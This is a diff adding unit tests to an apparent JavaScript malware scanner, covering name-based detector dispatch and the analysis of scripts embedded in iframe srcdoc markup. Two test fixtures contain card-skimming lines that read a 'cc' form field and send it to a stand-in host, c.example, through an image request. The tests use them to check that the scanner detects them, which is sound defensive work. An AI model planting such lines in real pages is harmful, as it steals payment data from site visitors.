@@ -132,3 +132,49 @@ describe('payload unpacking', () => {
     });
   }
 });
+
+describe('detector visitors by name', () => {
+  const seen = (visitors: Record<string, (node: { start: number }) => void>, code: string): void => {
+    const probe = { meta: { id: 'probe', classes: ['malware'] as const, severity: 'low' as const, description: 'test probe' }, create: () => visitors };
+    inspectSource(code, [probe]);
+  };
+
+  test("'CallExpression:remove' sees calls of remove, through any receiver or parentheses, and nothing else", () => {
+    const code = 'a.remove(); b.c.remove(1); (0, d.remove)(); remove(); a.removeChild(x); a["remove"](); e.add();';
+    const starts: number[] = [];
+    seen({ 'CallExpression:remove': (node) => { starts.push(node.start); } }, code);
+    const expected = [...code.matchAll(/a\.remove\(\)|b\.c\.remove|\(0, d\.remove\)\(\)|(?<![.\w])remove\(\)|a\["remove"\]/g)].map((match) => match.index);
+    assert.deepEqual(starts.sort((x, y) => x - y), expected);
+  });
+
+  test('assignments dispatch on the assigned name, members on the property', () => {
+    const code = 'img.src = u; x = document.cookie; src = 1; img.href = u;';
+    const names: string[] = [];
+    seen({
+      'AssignmentExpression:src': (node) => { names.push(`assign@${node.start}`); },
+      'MemberExpression:cookie': (node) => { names.push(`member@${node.start}`); },
+    }, code);
+    // every assignment to a `src` (member or variable) in source order, then the one `cookie` read
+    assert.deepEqual(names, [`assign@0`, `assign@${code.indexOf('src = 1')}`, `member@${code.indexOf('document.cookie')}`]);
+  });
+
+  test('a name on a type that is not dispatched by name is a programming error', () => {
+    assert.throws(() => seen({ 'Literal:x': () => {} }, 'x'), /cannot be visited by name/);
+  });
+});
+
+describe('scripts inside iframe srcdoc markup', () => {
+  for (const [how, code] of [
+    ['assigned', `var f = document.createElement('iframe'); f.srcdoc = '<p>hi</p><script>new Image().src = "https://c.example/?" + parent.document.getElementById("cc").value</script>';`],
+    ['set as an attribute', `var f = document.createElement('iframe'); f.setAttribute('srcdoc', '<script>new Image().src = "https://c.example/?" + parent.document.getElementById("cc").value</script>');`],
+  ]) {
+    test(`are analysed as a decoded layer when the markup is ${how}`, () => {
+      const result = inspectSource(code as string);
+      assert.equal(result.decodedLayers, 1);
+      assert.ok(result.evidence.some((item) => item.layer === 1 && item.detector === 'form-data-exfiltration'));
+    });
+  }
+  test('markup without scripts adds no layer', () => {
+    assert.equal(inspectSource(`f.srcdoc = '<p>Loading…</p>';`).decodedLayers, 0);
+  });
+});
